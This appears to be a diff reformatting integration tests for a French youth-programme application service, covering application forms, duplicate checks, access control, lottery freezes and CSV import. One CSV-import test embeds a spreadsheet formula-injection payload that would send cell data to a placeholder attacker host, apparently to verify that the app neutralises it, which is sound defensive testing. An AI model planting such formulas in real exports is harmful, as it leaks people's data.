@@ -40,7 +40,10 @@ describe("application files", () => {
     const { cohort, missionLocale, referent, as } = await counsellorSetUp();
     const form = applicationForm(cohort.id);
 
-    const response = await as.agent.post("/applications").type("form").send({ ...form, _csrf: as.csrf });
+    const response = await as.agent
+      .post("/applications")
+      .type("form")
+      .send({ ...form, _csrf: as.csrf });
 
     expect(response.status).toBe(303);
     const id = response.headers.location!.split("/").pop()!;
@@ -65,8 +68,14 @@ describe("application files", () => {
     const { cohort, as } = await counsellorSetUp();
     const refs = [];
     for (let i = 0; i < 2; i += 1) {
-      const response = await as.agent.post("/applications").type("form").send({ ...applicationForm(cohort.id), _csrf: as.csrf });
-      const application = await testDb.application.findUniqueOrThrow({ where: { id: response.headers.location!.split("/").pop()! }, include: { youth: true } });
+      const response = await as.agent
+        .post("/applications")
+        .type("form")
+        .send({ ...applicationForm(cohort.id), _csrf: as.csrf });
+      const application = await testDb.application.findUniqueOrThrow({
+        where: { id: response.headers.location!.split("/").pop()! },
+        include: { youth: true },
+      });
       refs.push(application.youth.ref);
     }
     expect(new Set(refs).size).toBe(2);
@@ -75,10 +84,13 @@ describe("application files", () => {
 
   it("a new application — with bad input — comes back (422) with French messages beside the fields and what was typed", async () => {
     const { cohort, as } = await counsellorSetUp();
-    const response = await as.agent.post("/applications").type("form").send({
-      ...applicationForm(cohort.id, { firstName: "Élodie", lastName: "", birthDate: "31/02/2004", phone: "123", avail2From: "09:00" }),
-      _csrf: as.csrf,
-    });
+    const response = await as.agent
+      .post("/applications")
+      .type("form")
+      .send({
+        ...applicationForm(cohort.id, { firstName: "Élodie", lastName: "", birthDate: "31/02/2004", phone: "123", avail2From: "09:00" }),
+        _csrf: as.csrf,
+      });
     expect(response.status).toBe(422);
     expect(response.text).toContain("Saisissez le nom.");
     expect(response.text).toContain("Saisissez une date de naissance valide");
@@ -91,7 +103,10 @@ describe("application files", () => {
 
   it("a new application — with an unknown field — is refused (422)", async () => {
     const { cohort, as } = await counsellorSetUp();
-    const response = await as.agent.post("/applications").type("form").send({ ...applicationForm(cohort.id), status: "SELECTED", _csrf: as.csrf });
+    const response = await as.agent
+      .post("/applications")
+      .type("form")
+      .send({ ...applicationForm(cohort.id), status: "SELECTED", _csrf: as.csrf });
     expect(response.status).toBe(422);
   });
 
@@ -100,14 +115,20 @@ describe("application files", () => {
     const existing = await makeApplicant(missionLocale.id, cohort.id, { lastName: "Le Goff", birthDate: new Date("2003-09-09T00:00:00Z") });
     const form = applicationForm(cohort.id, { lastName: "LEGOFF", birthDate: "2003-09-09" });
 
-    const first = await as.agent.post("/applications").type("form").send({ ...form, _csrf: as.csrf });
+    const first = await as.agent
+      .post("/applications")
+      .type("form")
+      .send({ ...form, _csrf: as.csrf });
     expect(first.status).toBe(422);
     expect(first.text).toContain("Ce dossier existe peut-être déjà");
     expect(first.text).toContain(existing.youth.ref);
     expect(first.text).toContain("même nom et même date de naissance");
     expect(await testDb.youth.count({ where: { lastName: "LEGOFF" } })).toBe(0);
 
-    const confirmed = await as.agent.post("/applications").type("form").send({ ...form, confirmDuplicate: "on", _csrf: as.csrf });
+    const confirmed = await as.agent
+      .post("/applications")
+      .type("form")
+      .send({ ...form, confirmDuplicate: "on", _csrf: as.csrf });
     expect(confirmed.status).toBe(303);
     expect(await testDb.youth.count({ where: { lastName: "LEGOFF" } })).toBe(1);
   });
@@ -115,26 +136,41 @@ describe("application files", () => {
   it("an edit — that makes the file look like another one — is flagged before saving, then saved only when confirmed", async () => {
     const { cohort, missionLocale, as } = await counsellorSetUp();
     const existing = await makeApplicant(missionLocale.id, cohort.id, { lastName: "Martin", birthDate: new Date("2002-02-02T00:00:00Z") });
-    const created = await as.agent.post("/applications").type("form").send({ ...applicationForm(cohort.id, { lastName: "Autre" }), _csrf: as.csrf });
+    const created = await as.agent
+      .post("/applications")
+      .type("form")
+      .send({ ...applicationForm(cohort.id, { lastName: "Autre" }), _csrf: as.csrf });
     const id = created.headers.location!.split("/").pop()!;
     const edit = applicationForm(cohort.id, { lastName: "Martin", birthDate: "2002-02-02" });
 
-    const first = await as.agent.post(`/applications/${id}`).type("form").send({ ...edit, _csrf: as.csrf });
+    const first = await as.agent
+      .post(`/applications/${id}`)
+      .type("form")
+      .send({ ...edit, _csrf: as.csrf });
     expect(first.status).toBe(422);
     expect(first.text).toContain(existing.youth.ref);
     expect(first.text).toContain("Enregistrer quand même");
     expect((await testDb.application.findUniqueOrThrow({ where: { id }, include: { youth: true } })).youth.lastName).toBe("Autre");
 
-    const confirmed = await as.agent.post(`/applications/${id}`).type("form").send({ ...edit, confirmDuplicate: "on", _csrf: as.csrf });
+    const confirmed = await as.agent
+      .post(`/applications/${id}`)
+      .type("form")
+      .send({ ...edit, confirmDuplicate: "on", _csrf: as.csrf });
     expect(confirmed.status).toBe(303);
     expect((await testDb.application.findUniqueOrThrow({ where: { id }, include: { youth: true } })).youth.lastName).toBe("Martin");
   });
 
   it("an edit — of the e-mail only — is not flagged against the file itself (same name and birth date)", async () => {
     const { cohort, as } = await counsellorSetUp();
-    const created = await as.agent.post("/applications").type("form").send({ ...applicationForm(cohort.id), _csrf: as.csrf });
+    const created = await as.agent
+      .post("/applications")
+      .type("form")
+      .send({ ...applicationForm(cohort.id), _csrf: as.csrf });
     const id = created.headers.location!.split("/").pop()!;
-    const again = await as.agent.post(`/applications/${id}`).type("form").send({ ...applicationForm(cohort.id, { email: "nouvelle.adresse@exemple.fr" }), _csrf: as.csrf });
+    const again = await as.agent
+      .post(`/applications/${id}`)
+      .type("form")
+      .send({ ...applicationForm(cohort.id, { email: "nouvelle.adresse@exemple.fr" }), _csrf: as.csrf });
     expect(again.status).toBe(303);
   });
 
@@ -148,7 +184,9 @@ describe("application files", () => {
     expect(response.text).not.toContain(hidden.youth.ref);
 
     const admin = await signedIn((await makeUser("ADMIN")).email, PASSWORD);
-    const flagged = await admin.agent.post("/applications").type("form")
+    const flagged = await admin.agent
+      .post("/applications")
+      .type("form")
       .send({ ...applicationForm(cohort.id, { email: "meme.adresse@exemple.fr" }), missionLocaleId: other.id, _csrf: admin.csrf });
     expect(flagged.status).toBe(422);
     expect(flagged.text).toContain(hidden.youth.ref);
@@ -156,10 +194,13 @@ describe("application files", () => {
 
   it("eligibility — a youth aged 27 on the draw day, without consent — is INELIGIBLE with each reason", async () => {
     const { cohort, as } = await counsellorSetUp();
-    const response = await as.agent.post("/applications").type("form").send({
-      ...applicationForm(cohort.id, { birthDate: "1999-01-15", evaluationConsent: "" }),
-      _csrf: as.csrf,
-    });
+    const response = await as.agent
+      .post("/applications")
+      .type("form")
+      .send({
+        ...applicationForm(cohort.id, { birthDate: "1999-01-15", evaluationConsent: "" }),
+        _csrf: as.csrf,
+      });
     const id = response.headers.location!.split("/").pop()!;
     expect((await testDb.application.findUniqueOrThrow({ where: { id } })).status).toBe("INELIGIBLE");
     const page = await as.agent.get(`/applications/${id}`);
@@ -188,30 +229,54 @@ describe("application files", () => {
     const { application } = await makeApplicant(other.id, cohort.id);
     expect((await as.agent.get(`/applications/${application.id}`)).status).toBe(404);
     expect((await as.agent.get(`/applications/${application.id}/edit`)).status).toBe(404);
-    expect((await as.agent.post(`/applications/${application.id}`).type("form").send({ ...applicationForm(cohort.id), _csrf: as.csrf })).status).toBe(404);
+    expect(
+      (
+        await as.agent
+          .post(`/applications/${application.id}`)
+          .type("form")
+          .send({ ...applicationForm(cohort.id), _csrf: as.csrf })
+      ).status,
+    ).toBe(404);
   });
 
   it("applications — as a school, a youth, the research team — are 403", async () => {
     const { cohort, missionLocale } = await counsellorSetUp();
     const { application, youth } = await makeApplicant(missionLocale.id, cohort.id);
     const school = await makeSchool(missionLocale.id);
-    for (const user of [await makeUser("SCHOOL", { drivingSchoolId: school.id }), await makeUser("YOUTH", { youthId: youth.id }), await makeUser("EVALUATOR")]) {
+    for (const user of [
+      await makeUser("SCHOOL", { drivingSchoolId: school.id }),
+      await makeUser("YOUTH", { youthId: youth.id }),
+      await makeUser("EVALUATOR"),
+    ]) {
       const { agent, csrf } = await signedIn(user.email, PASSWORD);
       expect((await agent.get("/applications")).status).toBe(403);
       expect((await agent.get(`/applications/${application.id}`)).status).toBe(403);
-      expect((await agent.post("/applications").type("form").send({ ...applicationForm(cohort.id), _csrf: csrf })).status).toBe(403);
+      expect(
+        (
+          await agent
+            .post("/applications")
+            .type("form")
+            .send({ ...applicationForm(cohort.id), _csrf: csrf })
+        ).status,
+      ).toBe(403);
     }
   });
 
   it("an edit — of contact details — is saved and audited with the changed fields", async () => {
     const { cohort, as } = await counsellorSetUp();
-    const created = await as.agent.post("/applications").type("form").send({ ...applicationForm(cohort.id), _csrf: as.csrf });
+    const created = await as.agent
+      .post("/applications")
+      .type("form")
+      .send({ ...applicationForm(cohort.id), _csrf: as.csrf });
     const id = created.headers.location!.split("/").pop()!;
     const edit = await as.agent.get(`/applications/${id}/edit`);
     expect(edit.status).toBe(200);
     expect(edit.text).toContain('value="17:30"');
 
-    const response = await as.agent.post(`/applications/${id}`).type("form").send({ ...applicationForm(cohort.id, { city: "Olivet", professionalProject: "" }), _csrf: as.csrf });
+    const response = await as.agent
+      .post(`/applications/${id}`)
+      .type("form")
+      .send({ ...applicationForm(cohort.id, { city: "Olivet", professionalProject: "" }), _csrf: as.csrf });
 
     expect(response.status).toBe(303);
     const application = await testDb.application.findUniqueOrThrow({ where: { id }, include: { youth: true } });
@@ -223,49 +288,78 @@ describe("application files", () => {
 
   it("an edit — of the birth date after the freeze — is refused (422): the frozen list cannot change", async () => {
     const { cohort, missionLocale, as } = await counsellorSetUp();
-    const created = await as.agent.post("/applications").type("form").send({ ...applicationForm(cohort.id), _csrf: as.csrf });
+    const created = await as.agent
+      .post("/applications")
+      .type("form")
+      .send({ ...applicationForm(cohort.id), _csrf: as.csrf });
     const id = created.headers.location!.split("/").pop()!;
     await testDb.lotteryFreeze.create({ data: { cohortId: cohort.id, missionLocaleId: missionLocale.id, listDigest: "0".repeat(64) } });
     expect((await as.agent.get(`/applications/${id}/edit`)).text).toContain("La liste du tirage est figée");
 
-    const response = await as.agent.post(`/applications/${id}`).type("form").send({ ...applicationForm(cohort.id, { birthDate: "2003-01-01" }), _csrf: as.csrf });
+    const response = await as.agent
+      .post(`/applications/${id}`)
+      .type("form")
+      .send({ ...applicationForm(cohort.id, { birthDate: "2003-01-01" }), _csrf: as.csrf });
 
     expect(response.status).toBe(422);
     expect(response.text).toContain("ne peut plus changer");
-    expect((await testDb.application.findUniqueOrThrow({ where: { id }, include: { youth: true } })).youth.birthDate.toISOString()).toBe("2004-02-14T00:00:00.000Z");
-    const phoneChange = await as.agent.post(`/applications/${id}`).type("form").send({ ...applicationForm(cohort.id, { phone: "0700000000" }), _csrf: as.csrf });
+    expect((await testDb.application.findUniqueOrThrow({ where: { id }, include: { youth: true } })).youth.birthDate.toISOString()).toBe(
+      "2004-02-14T00:00:00.000Z",
+    );
+    const phoneChange = await as.agent
+      .post(`/applications/${id}`)
+      .type("form")
+      .send({ ...applicationForm(cohort.id, { phone: "0700000000" }), _csrf: as.csrf });
     expect(phoneChange.status).toBe(303);
   });
 });
 
-const HEADER = "nom;prenom;date_naissance;genre;email;telephone;code_postal;ville;situation;projet_professionnel;accord_tirage;accord_evaluation";
+const HEADER =
+  "nom;prenom;date_naissance;genre;email;telephone;code_postal;ville;situation;projet_professionnel;accord_tirage;accord_evaluation";
 
 describe("CSV import", () => {
   it("an import — UTF-8 with BOM, `;` — creates every line in one go, with AUT refs and audit events", async () => {
     const { cohort, missionLocale, as } = await counsellorSetUp();
     const csv = `\uFEFF${HEADER}\nAlpha;Zoé;14/02/2004;F;zoe.alpha@exemple.fr;06 10 00 00 01;45000;Orléans;JOB_SEEKER;Aide-soignante;oui;oui\nBeta;Yanis;2002-11-03;H;;;45100;Orléans;Apprenti·e;"Boulanger ; horaires de nuit";oui;non\n`;
 
-    const response = await as.agent.post("/applications/import").type("form").send({ cohortId: cohort.id, missionLocaleId: missionLocale.id, csv, _csrf: as.csrf });
+    const response = await as.agent
+      .post("/applications/import")
+      .type("form")
+      .send({ cohortId: cohort.id, missionLocaleId: missionLocale.id, csv, _csrf: as.csrf });
 
     expect(response.status).toBe(303);
-    const youths = await testDb.youth.findMany({ where: { lastName: { in: ["Alpha", "Beta"] } }, include: { applications: true }, orderBy: { lastName: "asc" } });
+    const youths = await testDb.youth.findMany({
+      where: { lastName: { in: ["Alpha", "Beta"] } },
+      include: { applications: true },
+      orderBy: { lastName: "asc" },
+    });
     expect(youths.map((y) => [y.firstName, y.applications[0]!.status, y.employmentStatus])).toEqual([
       ["Zoé", "ELIGIBLE", "JOB_SEEKER"],
       ["Yanis", "INELIGIBLE", "APPRENTICE"],
     ]);
     expect(youths[1]!.professionalProject).toBe("Boulanger ; horaires de nuit");
     expect(youths.every((y) => /^AUT-2026-\d{4,}$/.test(y.ref))).toBe(true);
-    expect(await testDb.auditEvent.count({ where: { action: "APPLICATION_CREATED", entityId: { in: youths.map((y) => y.applications[0]!.id) } } })).toBe(2);
+    expect(
+      await testDb.auditEvent.count({
+        where: { action: "APPLICATION_CREATED", entityId: { in: youths.map((y) => y.applications[0]!.id) } },
+      }),
+    ).toBe(2);
   });
 
   it("an import — of a large file (over 200 kB once form-encoded) — is read, not refused as too big", async () => {
     const { cohort, missionLocale, as } = await counsellorSetUp();
-    const lines = Array.from({ length: 1000 }, (_, i) =>
-      `Nom${i};Prénom;14/02/2004;F;personne${i}@exemple.fr;;45000;Orléans;JOB_SEEKER;Projet professionnel assez long pour peser, avec des horaires décalés et des trajets en périphérie;oui;oui`);
+    const lines = Array.from(
+      { length: 1000 },
+      (_, i) =>
+        `Nom${i};Prénom;14/02/2004;F;personne${i}@exemple.fr;;45000;Orléans;JOB_SEEKER;Projet professionnel assez long pour peser, avec des horaires décalés et des trajets en périphérie;oui;oui`,
+    );
     const csv = `${HEADER}\n${lines.join("\n")}\n`;
     expect(new URLSearchParams({ csv }).toString().length).toBeGreaterThan(200 * 1024);
 
-    const response = await as.agent.post("/applications/import").type("form").send({ cohortId: cohort.id, missionLocaleId: missionLocale.id, csv, _csrf: as.csrf });
+    const response = await as.agent
+      .post("/applications/import")
+      .type("form")
+      .send({ cohortId: cohort.id, missionLocaleId: missionLocale.id, csv, _csrf: as.csrf });
 
     expect(response.status).toBe(303);
     expect(await testDb.youth.count({ where: { lastName: { startsWith: "Nom" }, missionLocaleId: missionLocale.id } })).toBe(1000);
@@ -274,7 +368,10 @@ describe("CSV import", () => {
   it("an import — with `,` and no BOM — is read the same way", async () => {
     const { cohort, missionLocale, as } = await counsellorSetUp();
     const csv = `${HEADER.replaceAll(";", ",")}\nGamma,Luc,01/01/2005,H,,,,,STUDENT,"Électricien, en alternance",oui,oui`;
-    const response = await as.agent.post("/applications/import").type("form").send({ cohortId: cohort.id, missionLocaleId: missionLocale.id, csv, _csrf: as.csrf });
+    const response = await as.agent
+      .post("/applications/import")
+      .type("form")
+      .send({ cohortId: cohort.id, missionLocaleId: missionLocale.id, csv, _csrf: as.csrf });
     expect(response.status).toBe(303);
     expect((await testDb.youth.findFirstOrThrow({ where: { lastName: "Gamma" } })).professionalProject).toBe("Électricien, en alternance");
   });
@@ -291,7 +388,10 @@ describe("CSV import", () => {
       "Delta;Anna;14/02/2004;F;;;;;JOB_SEEKER;Coiffeuse;oui;oui",
     ].join("\r\n");
 
-    const response = await as.agent.post("/applications/import").type("form").send({ cohortId: cohort.id, missionLocaleId: missionLocale.id, csv, _csrf: as.csrf });
+    const response = await as.agent
+      .post("/applications/import")
+      .type("form")
+      .send({ cohortId: cohort.id, missionLocaleId: missionLocale.id, csv, _csrf: as.csrf });
 
     expect(response.status).toBe(422);
     expect(response.text).toContain("Rien n&#39;a été enregistré");
@@ -307,7 +407,10 @@ describe("CSV import", () => {
     const { cohort, missionLocale, as } = await counsellorSetUp();
     const existing = await makeApplicant(missionLocale.id, cohort.id, { lastName: "Theta", birthDate: new Date("2004-02-14T00:00:00Z") });
     const csv = `${HEADER}\nTHETA;Ilan;14/02/2004;H;;;;;JOB_SEEKER;Peintre;oui;oui`;
-    const response = await as.agent.post("/applications/import").type("form").send({ cohortId: cohort.id, missionLocaleId: missionLocale.id, csv, _csrf: as.csrf });
+    const response = await as.agent
+      .post("/applications/import")
+      .type("form")
+      .send({ cohortId: cohort.id, missionLocaleId: missionLocale.id, csv, _csrf: as.csrf });
     expect(response.status).toBe(422);
     expect(response.text).toContain(`Doublon possible du dossier ${existing.youth.ref}`);
   });
@@ -317,7 +420,10 @@ describe("CSV import", () => {
     const injection = '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")';
     const csv = `${HEADER}\nIota;Mia;14/02/2004;F;;;;;JOB_SEEKER;"${injection.replaceAll('"', '""')}";oui;oui`;
 
-    const response = await as.agent.post("/applications/import").type("form").send({ cohortId: cohort.id, missionLocaleId: missionLocale.id, csv, _csrf: as.csrf });
+    const response = await as.agent
+      .post("/applications/import")
+      .type("form")
+      .send({ cohortId: cohort.id, missionLocaleId: missionLocale.id, csv, _csrf: as.csrf });
 
     expect(response.status).toBe(303);
     const youth = await testDb.youth.findFirstOrThrow({ where: { lastName: "Iota" }, include: { applications: true } });
@@ -330,7 +436,10 @@ describe("CSV import", () => {
   it("a new application — into a stratum already frozen — is refused (422), nothing written", async () => {
     const { cohort, missionLocale, as } = await counsellorSetUp();
     await testDb.lotteryFreeze.create({ data: { cohortId: cohort.id, missionLocaleId: missionLocale.id, listDigest: "0".repeat(64) } });
-    const response = await as.agent.post("/applications").type("form").send({ ...applicationForm(cohort.id, { lastName: "Tardif" }), _csrf: as.csrf });
+    const response = await as.agent
+      .post("/applications")
+      .type("form")
+      .send({ ...applicationForm(cohort.id, { lastName: "Tardif" }), _csrf: as.csrf });
     expect(response.status).toBe(422);
     expect(await testDb.youth.count({ where: { lastName: "Tardif" } })).toBe(0);
   });
@@ -339,7 +448,10 @@ describe("CSV import", () => {
     const { cohort, missionLocale, as } = await counsellorSetUp();
     await testDb.lotteryFreeze.create({ data: { cohortId: cohort.id, missionLocaleId: missionLocale.id, listDigest: "0".repeat(64) } });
     const csv = `${HEADER}\nKappa;Léo;14/02/2004;H;;;;;JOB_SEEKER;Peintre;oui;oui`;
-    const response = await as.agent.post("/applications/import").type("form").send({ cohortId: cohort.id, missionLocaleId: missionLocale.id, csv, _csrf: as.csrf });
+    const response = await as.agent
+      .post("/applications/import")
+      .type("form")
+      .send({ cohortId: cohort.id, missionLocaleId: missionLocale.id, csv, _csrf: as.csrf });
     expect(response.status).toBe(422);
     expect(await testDb.youth.count({ where: { lastName: "Kappa" } })).toBe(0);
   });
@@ -348,7 +460,10 @@ describe("CSV import", () => {
     const { cohort, as } = await counsellorSetUp();
     const other = await makeMissionLocale();
     const csv = `${HEADER}\nLambda;Léo;14/02/2004;H;;;;;JOB_SEEKER;Peintre;oui;oui`;
-    const response = await as.agent.post("/applications/import").type("form").send({ cohortId: cohort.id, missionLocaleId: other.id, csv, _csrf: as.csrf });
+    const response = await as.agent
+      .post("/applications/import")
+      .type("form")
+      .send({ cohortId: cohort.id, missionLocaleId: other.id, csv, _csrf: as.csrf });
     expect(response.status).toBe(422);
     expect(await testDb.youth.count({ where: { lastName: "Lambda" } })).toBe(0);
   });
@@ -359,7 +474,10 @@ describe("CSV import", () => {
     expect(page.text).toContain('href="/public/samples/candidatures.csv"');
     const sample = await as.agent.get("/public/samples/candidatures.csv");
     expect(sample.status).toBe(200);
-    const response = await as.agent.post("/applications/import").type("form").send({ cohortId: cohort.id, missionLocaleId: missionLocale.id, csv: sample.text, _csrf: as.csrf });
+    const response = await as.agent
+      .post("/applications/import")
+      .type("form")
+      .send({ cohortId: cohort.id, missionLocaleId: missionLocale.id, csv: sample.text, _csrf: as.csrf });
     expect(response.status).toBe(303);
   });
 
@@ -380,11 +498,16 @@ describe("CSV import: French words and duplicates", () => {
     const { cohort, missionLocale, as } = await counsellorSetUp();
     const csv = `${HEADER}\nOmicron;Zoé;14/02/2004;Femme;;;;;Demandeur d'emploi;Cariste;OUI;Non\nPi;Noé;03/11/2002;h;;;;;salariée;Maçon;o;n`;
 
-    const response = await as.agent.post("/applications/import").type("form").send({ cohortId: cohort.id, missionLocaleId: missionLocale.id, csv, _csrf: as.csrf });
+    const response = await as.agent
+      .post("/applications/import")
+      .type("form")
+      .send({ cohortId: cohort.id, missionLocaleId: missionLocale.id, csv, _csrf: as.csrf });
 
     expect(response.status).toBe(303);
     const youths = await testDb.youth.findMany({ where: { lastName: { in: ["Omicron", "Pi"] } }, orderBy: { lastName: "asc" } });
-    expect(youths.map((y) => [y.lastName, y.gender, y.employmentStatus, y.lotteryConsentAt !== null, y.evaluationConsentAt !== null])).toEqual([
+    expect(
+      youths.map((y) => [y.lastName, y.gender, y.employmentStatus, y.lotteryConsentAt !== null, y.evaluationConsentAt !== null]),
+    ).toEqual([
       ["Omicron", "FEMALE", "JOB_SEEKER", true, false],
       ["Pi", "MALE", "EMPLOYEE", true, false],
     ]);
@@ -392,7 +515,10 @@ describe("CSV import: French words and duplicates", () => {
 
   it("an import — one line repeating an earlier one, another like a youth on record — flags both lines and writes nothing", async () => {
     const { cohort, missionLocale, as } = await counsellorSetUp();
-    const existing = await makeApplicant(missionLocale.id, cohort.id, { lastName: "Rhô-Sigma", birthDate: new Date("2003-05-05T00:00:00Z") });
+    const existing = await makeApplicant(missionLocale.id, cohort.id, {
+      lastName: "Rhô-Sigma",
+      birthDate: new Date("2003-05-05T00:00:00Z"),
+    });
     const csv = [
       HEADER,
       "Tau;Léa;14/02/2004;F;lea.tau@exemple.fr;;;;JOB_SEEKER;Coiffeuse;oui;oui",
@@ -401,7 +527,10 @@ describe("CSV import: French words and duplicates", () => {
     ].join("\n");
     const before = await testDb.youth.count();
 
-    const response = await as.agent.post("/applications/import").type("form").send({ cohortId: cohort.id, missionLocaleId: missionLocale.id, csv, _csrf: as.csrf });
+    const response = await as.agent
+      .post("/applications/import")
+      .type("form")
+      .send({ cohortId: cohort.id, missionLocaleId: missionLocale.id, csv, _csrf: as.csrf });
 
     expect(response.status).toBe(422);
     expect(response.text).toContain("Doublon de la ligne 2 (même adresse e-mail).");
@@ -412,9 +541,16 @@ describe("CSV import: French words and duplicates", () => {
   it("an import — of a line already imported — is flagged against the stored file (dates written as Prisma writes them)", async () => {
     const { cohort, missionLocale, as } = await counsellorSetUp();
     const csv = `${HEADER}\nPhi;Léa;14/02/2004;F;;;;;JOB_SEEKER;Coiffeuse;oui;oui`;
-    const send = () => as.agent.post("/applications/import").type("form").send({ cohortId: cohort.id, missionLocaleId: missionLocale.id, csv, _csrf: as.csrf });
+    const send = () =>
+      as.agent
+        .post("/applications/import")
+        .type("form")
+        .send({ cohortId: cohort.id, missionLocaleId: missionLocale.id, csv, _csrf: as.csrf });
     expect((await send()).status).toBe(303);
-    const stored = await testDb.youth.findFirstOrThrow({ where: { lastName: "Phi", birthDate: new Date("2004-02-14T00:00:00Z") }, include: { applications: true } });
+    const stored = await testDb.youth.findFirstOrThrow({
+      where: { lastName: "Phi", birthDate: new Date("2004-02-14T00:00:00Z") },
+      include: { applications: true },
+    });
     expect(stored.applications[0]!.submittedAt).toBeInstanceOf(Date);
 
     const again = await send();
@@ -435,13 +571,25 @@ describe("CSV import: French words and duplicates", () => {
 describe("search in the list", () => {
   it("a search — by first and last name in either order, without accents or capitals — finds the youth, whether filed, imported or renamed", async () => {
     const { cohort, missionLocale, as } = await counsellorSetUp();
-    const filed = await as.agent.post("/applications").type("form").send({ ...applicationForm(cohort.id, { firstName: "Kévin", lastName: "Dubois" }), _csrf: as.csrf });
+    const filed = await as.agent
+      .post("/applications")
+      .type("form")
+      .send({ ...applicationForm(cohort.id, { firstName: "Kévin", lastName: "Dubois" }), _csrf: as.csrf });
     expect(filed.status).toBe(303);
     const csv = `${HEADER}\nN'Diaye-Lefèvre;Éloïse;14/02/2004;F;;;;;JOB_SEEKER;Cariste;oui;oui`;
-    await as.agent.post("/applications/import").type("form").send({ cohortId: cohort.id, missionLocaleId: missionLocale.id, csv, _csrf: as.csrf });
-    const renamed = await as.agent.post("/applications").type("form").send({ ...applicationForm(cohort.id, { firstName: "Anne", lastName: "Avant" }), _csrf: as.csrf });
+    await as.agent
+      .post("/applications/import")
+      .type("form")
+      .send({ cohortId: cohort.id, missionLocaleId: missionLocale.id, csv, _csrf: as.csrf });
+    const renamed = await as.agent
+      .post("/applications")
+      .type("form")
+      .send({ ...applicationForm(cohort.id, { firstName: "Anne", lastName: "Avant" }), _csrf: as.csrf });
     const renamedId = renamed.headers.location!.split("/").pop()!;
-    await as.agent.post(`/applications/${renamedId}`).type("form").send({ ...applicationForm(cohort.id, { firstName: "Anaïs", lastName: "Après" }), confirmDuplicate: "on", _csrf: as.csrf });
+    await as.agent
+      .post(`/applications/${renamedId}`)
+      .type("form")
+      .send({ ...applicationForm(cohort.id, { firstName: "Anaïs", lastName: "Après" }), confirmDuplicate: "on", _csrf: as.csrf });
 
     const found = async (q: string) => (await as.agent.get(`/applications?q=${encodeURIComponent(q)}`)).text;
 
@@ -485,9 +633,18 @@ describe("cohorts open for applications", () => {
   it("a new application — posted for a cohort whose draw is done at this Mission Locale — is refused (422) with a French message, nothing written", async () => {
     const { missionLocale, as } = await counsellorSetUp();
     const cohort = await makeCohort();
-    await makeDraw({ cohortId: cohort.id, missionLocaleId: missionLocale.id, adminId: (await makeUser("ADMIN")).id, applicants: 1, seats: 1 });
+    await makeDraw({
+      cohortId: cohort.id,
+      missionLocaleId: missionLocale.id,
+      adminId: (await makeUser("ADMIN")).id,
+      applicants: 1,
+      seats: 1,
+    });
 
-    const response = await as.agent.post("/applications").type("form").send({ ...applicationForm(cohort.id, { lastName: "Retardataire" }), _csrf: as.csrf });
+    const response = await as.agent
+      .post("/applications")
+      .type("form")
+      .send({ ...applicationForm(cohort.id, { lastName: "Retardataire" }), _csrf: as.csrf });
 
     expect(response.status).toBe(422);
     expect(response.text).toContain("La liste du tirage de cette promotion est déjà figée pour cette Mission Locale");
